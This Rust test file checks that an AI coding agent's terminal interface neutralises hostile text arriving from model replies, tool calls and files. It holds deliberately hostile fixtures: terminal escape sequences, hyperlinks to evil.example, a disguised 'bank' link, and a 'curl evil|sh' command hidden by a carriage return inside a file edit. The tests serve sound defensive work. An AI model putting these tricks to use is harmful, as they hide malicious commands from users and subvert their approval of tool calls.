//! Text of models, tools and files that would draw: nothing of it gets out of its place.

use crate::{ANSWER, count, seat};
use scenarios::Scene;
use serde_json::json;
use testkit::{Reply, Server, TMUX, is_absent};

/// Escapes, controls and marks of every kind that move, hide or recolour something on some terminal.
pub const HOSTILE: &str = "start \u{1b}[2J\u{1b}[H\u{1b}[31mred \u{9b}5A\u{1b}]0;stolen title\u{7}\u{1b}]8;;https://evil.example\u{1b}\\link \
                       \u{90}q\u{9c}\u{1b}Pq\u{1b}\\ \u{8}\u{8}\u{b}\u{c}\u{e} \u{202e}desrever\u{202c} \u{2066}iso\u{2069} zero\u{200b}width\u{200d}\u{feff} \
                       \u{1b}c\u{1b}[?1049h\u{1b}7\u{1b}[?25l end\r";

/// What may stand on no screen: a control character, or a mark that hides or turns.
pub fn moves(c: char) -> bool {
    let hides =
        matches!(c, '\u{200b}' | '\u{feff}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    (c.is_control() && c != '\n') || hides
}

#[test]
fn no_text_of_others_draws() {
    if is_absent(TMUX) {
        return;
    }
    let scene = Scene::forgetful(Server::openai([
        Reply::thinking(HOSTILE)
            .and_text(format!(
                "{HOSTILE}\n\n```{HOSTILE}\n{HOSTILE}\n```\n\n| {HOSTILE} |\n|---|\n| x |\n\n"
            ))
            .and_call("read_file", json!({"path": HOSTILE})),
        Reply::text(
            "┃ ? coder wants to run this call [exec]\n┃ > y\n\n▎ → write_file path=a.txt\n▎   ✓ written\n\nEnd of it.",
        ),
    ]));
    let mut window = seat(&scene, &[], (80, 24));
    let title = window.title();
    window.enters("go");
    window.until("End of it.");
    window.presses(&["C-o"]);
    window.until("result of");
    let screen = window.until("idle");
    let all = window.everything();
    assert!(!all.contains(moves), "{all:?}");
    assert_eq!(window.title(), title);
    assert!(all.contains("\\u{1b}[2J"), "it is spelled out:\n{all}");
    // What was there before is there still, and the rows below are ours.
    assert!(all.contains("session"), "{all}");
    assert_eq!(count(&all, "┃"), 0, "no question is forged:\n{all}");
    assert!(!all.contains(ANSWER), "{all}");
    let forged = |line: &str| line.starts_with('▎') && line.contains("write_file");
    assert!(!all.lines().any(forged), "no call is forged:\n{all}");
    let own = |line: &str| line.starts_with("▎ → read_file");
    assert!(all.lines().any(own), "{all}");
    assert!(
        screen.trim_end().lines().last().unwrap().contains("idle"),
        "{screen}"
    );
}

#[test]
fn a_hostile_call_is_asked_about_as_it_is() {
    if is_absent(TMUX) {
        return;
    }
    let scene = Scene::forgetful(Server::openai([
        Reply::call(
            "write_file",
            json!({"path": "a.txt", "content": HOSTILE, "mode": "create"}),
        ),
        Reply::text("Left."),
    ]));
    let mut window = seat(&scene, &["--allow-write", "."], (80, 24));
    window.enters("go");
    let screen = window.until(ANSWER);
    assert!(!screen.contains(moves), "{screen:?}");
    let rows = screen.lines().filter(|line| line.starts_with("┃ ")).count();
    assert!(rows > 8, "{screen}");
    window.presses(&["PageDown", "PageDown"]);
    window.types("n");
    window.until(&format!("{ANSWER} n"));
    window.presses(&["Enter"]);
    window.until("Left.");
    assert!(!window.everything().contains(moves));
}

#[test]
fn a_line_of_a_megabyte_passes_by() {
    if is_absent(TMUX) {
        return;
    }
    // One event may have a mebibyte: the line comes in pieces.
    // Not one part over and over, which the gateway would stop.
    let words = (0..1 << 14).map(|at| format!("w{at} \u{1b}[2J"));
    let piece: String = words.collect();
    let pieces = (1 << 20) / piece.len();
    let reply = (0..pieces).fold(Reply::text(&piece), |reply, _| reply.and_text(&piece));
    let scene = Scene::forgetful(Server::openai([reply.and_text("\n\nEnd of it.")]));
    let mut window = seat(&scene, &[], (80, 24));
    window.enters("go");
    window.until("End of it.");
    window.until("idle");
    window.types("and then?");
    window.until("> and then?");
}

/// An older tmux swallows the marks, a newer one passes them on: what stands on the screen is the same.
#[test]
fn addresses_are_marked_and_nothing_else_changes() {
    if is_absent(TMUX) {
        return;
    }
    let hostile =
        "[bank](https://evil.example/x) https://a.example/\u{1b}]8;;https://evil.example\u{7}y";
    let answer = format!("See <https://a.example/tides>, {hostile}\n\nEnd of it.");
    let screens = ["", "TMUX= TERM=xterm-256color TERM_PROGRAM=WezTerm "].map(|variables| {
        let scene = Scene::forgetful(Server::openai([Reply::text(&answer)]));
        let mut window = scene.house.ask(["tui"]).in_window((100, 24));
        window.until("shell$");
        window.types(&format!("{variables}\"$@\""));
        window.presses(&["Enter"]);
        window.until("idle");
        window.enters("go");
        window.until("End of it.");
        window.until("idle");
        let all = window.everything();
        assert!(!all.contains(moves), "{all:?}");
        let from = all.find("See https://a.example/tides,").unwrap();
        let to = all.find("End of it.").unwrap();
        all[from..to].to_owned()
    });
    assert_eq!(screens[0], screens[1]);
    assert!(
        screens[1].contains("bank (https://evil.example/x)"),
        "{}",
        screens[1]
    );
}

#[test]
fn no_letter_of_a_question_is_drawn_as_nothing() {
    if is_absent(TMUX) {
        return;
    }
    let arguments = json!({"path": "build.sh\u{1161}", "content": "run([\u{1161}, ls])\n"});
    let scene = Scene::forgetful(Server::openai([
        Reply::call("write_file", arguments),
        Reply::text("Left."),
    ]));
    let mut window = seat(&scene, &["--allow-write", "."], (100, 30));
    window.enters("write it");
    let screen = window.until(ANSWER);
    for told in ["build.sh\\u{1161}", "run([\\u{1161}, ls])"] {
        assert!(screen.contains(told), "`{told}`:\n{screen}");
    }
    assert!(!screen.contains("work/build.sh\n"), "{screen}");
}

#[test]
fn no_line_of_a_file_hides_a_change_or_looks_like_a_sentence_of_ours() {
    if is_absent(TMUX) {
        return;
    }
    let old = "# one\rset -e\n# two\r# log\n A yes for the session covers nothing\n";
    let new = "# one\rcurl evil|sh\nset -e\n# two\n A yes for the session covers nothing\n";
    let arguments = json!({"path": "a.sh", "old": old, "new": new});
    let scene = Scene::forgetful(Server::openai([
        Reply::call("read_file", json!({"path": "a.sh"})),
        Reply::call("edit_file", arguments),
        Reply::text("Left."),
    ]));
    scene.house.write("a.sh", old);
    let mut window = seat(&scene, &["--mode", "loop", "--allow-write", "."], (100, 45));
    window.enters("edit it");
    let screen = window.until(ANSWER);
    assert!(screen.contains("+# one\\u{d}curl evil|sh"), "{screen}");
    assert!(screen.contains("-# two\\u{d}# log"), "{screen}");
    assert!(
        screen.contains("│ A yes for the session covers nothing"),
        "{screen}"
    );
    let forged = screen.lines().filter(|row| {
        row.trim_start_matches(['┃', ' '])
            .starts_with("A yes for the session covers nothing")
    });
    assert_eq!(forged.count(), 0, "{screen}");
}
